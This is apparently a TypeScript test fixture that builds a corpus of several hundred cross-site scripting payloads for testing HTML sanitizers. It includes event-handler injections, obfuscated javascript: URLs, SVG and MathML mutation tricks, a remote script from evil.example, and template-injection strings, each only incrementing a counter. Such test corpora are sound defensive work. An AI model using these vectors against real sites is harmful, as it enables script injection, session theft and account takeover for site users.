/**
 * Texts that try to run a program in the page of whoever reads them. Each sets `window.__xss` when it succeeds.
 * They are planted in names, texts, file names and searches, and given to both cleaners of formatted text.
 */
const run = 'window.__xss=(window.__xss||0)+1'

const handlers = [
  ...['onload', 'onerror', 'onclick', 'ondblclick', 'onmousedown', 'onmouseup', 'onmouseover', 'onmousemove'],
  ...['onmouseout', 'onmouseenter', 'onmouseleave', 'onwheel', 'oncontextmenu', 'onkeydown', 'onkeypress'],
  ...[
    'onkeyup',
    'onfocus',
    'onfocusin',
    'onfocusout',
    'onblur',
    'onchange',
    'oninput',
    'oninvalid',
    'onreset',
  ],
  ...['onselect', 'onsubmit', 'onsearch', 'oncopy', 'oncut', 'onpaste', 'ondrag', 'ondragend', 'ondragenter'],
  ...['ondragleave', 'ondragover', 'ondragstart', 'ondrop', 'onscroll', 'ontouchstart', 'ontouchmove'],
  ...['ontouchend', 'ontouchcancel', 'onpointerdown', 'onpointerup', 'onpointermove', 'onpointerover'],
  ...['onpointerenter', 'onpointerleave', 'onanimationstart', 'onanimationend', 'onanimationiteration'],
  ...[
    'ontransitionend',
    'ontransitionrun',
    'ontoggle',
    'onbeforetoggle',
    'onplay',
    'oncanplay',
    'onloadstart',
  ],
  ...['onloadeddata', 'ontimeupdate', 'onended', 'onhashchange', 'onpageshow', 'onpopstate', 'onmessage'],
  ...[
    'onresize',
    'onunload',
    'onbeforeunload',
    'onstorage',
    'onbegin',
    'onrepeat',
    'oncuechange',
    'onauxclick',
  ],
] as const

const carriers = [
  'img src=x',
  'p',
  'a href="https://example.com"',
  'svg',
  'body',
  'div tabindex=1 autofocus',
] as const

const byHandler = handlers.map((handler, at) => {
  const carrier = carriers[at % carriers.length] ?? 'p'
  return `<${carrier} ${handler}="${run}">${handler}`
})

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'java\r\nscript:',
  'java&#9;script:',
  'java&NewLine;script:',
  'javascript&colon;',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;',
  '\u0001javascript:',
  ' javascript:',
  'javascript://%0a',
  'javascript://example.com/%0a',
  'vbscript:',
  'livescript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'blob:',
  'filesystem:',
  'view-source:javascript:',
  'feed:javascript:',
  '//evil.example/',
  '\\\\evil.example\\',
  'http://evil.example/',
  'https://user:password@evil.example/',
] as const

const linkTags = [
  (href: string) => `<a href="${href}${run}">链接</a>`,
  (href: string) => `<img src="${href}${run}" alt="图">`,
  (href: string) => `<iframe src="${href}${run}"></iframe>`,
] as const

const byScheme = schemes.flatMap((scheme) => linkTags.map((tag) => tag(scheme)))

const programs = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script >${run}</script >`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `\u0000<script>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `＜script＞${run}＜/script＞`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
] as const

const pictures = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror='${run}'>`,
  `<img src=x onerror=\`${run}\`>`,
  `<img src=x onerror="${run}"//`,
  `<img/src=x/onerror=${run}>`,
  `<img\tsrc=x\tonerror=${run}>`,
  `<img src="x" oNeRrOr="${run}">`,
  `<img src=x:x onerror=${run}>`,
  `<img """><script>${run}</script>">`,
  `<img src="x\`><script>${run}</script>"\`>`,
  `<img src='/files/x' onerror="${run}">`,
  `<img src="/files/00000000-0000-4000-8000-000000000001" onerror="${run}">`,
  `<img src="/files/00000000-0000-4000-8000-000000000001&quot; onerror=&quot;${run}">`,
  `<img src="/files/../x" srcset="x 1x" onerror="${run}">`,
  `<img alt="&quot;><script>${run}</script>" src=x>`,
  `<image src=x onerror=${run}>`,
  `<picture><source srcset=x><img src=x onerror=${run}></picture>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=javascript:${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<input type=image src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<keygen autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<button popovertarget=x>x</button><p id=x popover onbeforetoggle=${run}>x`,
] as const

const foreign = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${run}"></script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to=javascript:${run}></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<style><img src="</style><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<a href="x" title='<img src=x onerror=${run}>'>x</a>`,
  `<p title="&lt;img src=x onerror=${run}&gt;">x</p>`,
] as const

const frames = [
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code=x onerror=${run}></applet>`,
  `<frameset onload=${run}>`,
  `<base href="javascript:${run}//">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${run}">x</button>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<table background="javascript:${run}"><tr><td>x</table>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>`,
  `<style>@import "javascript:${run}";</style>`,
  `<p is=x-y onx=${run}>x</p>`,
  `<a href="https://example.com" target=_blank onclick="${run}" rel=opener>x</a>`,
  `<a href=https://example.com/"onmouseover="${run}>x</a>`,
] as const

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `"-(${run})-"`,
  `'-(${run})-'`,
  `\\"-(${run})//`,
  `</p><img src=x onerror=${run}><p>`,
  `__proto__[innerHTML]=<img src=x onerror=${run}>`,
  `<a id=document><a id=document name=cookie href="javascript:${run}">x</a>`,
  `<form name=body><input name=firstChild></form><img src=x onerror=${run}>`,
  `\u202e<img src=x onerror=${run}>\u202c`,
  `\ufeff<img src=x onerror=${run}>`,
  `<ıimg src=x onerror=${run}>`,
] as const

/** At least two hundred, no two the same. */
export const xssCorpus: readonly string[] = [
  ...new Set([...programs, ...pictures, ...foreign, ...frames, ...templates, ...byHandler, ...byScheme]),
]

/** Those that a name or a line of text may hold: without control characters, on one line. */
export const xssInNames: readonly string[] = xssCorpus.filter((text) => !/[\p{Cc}\p{Cf}]/u.test(text))
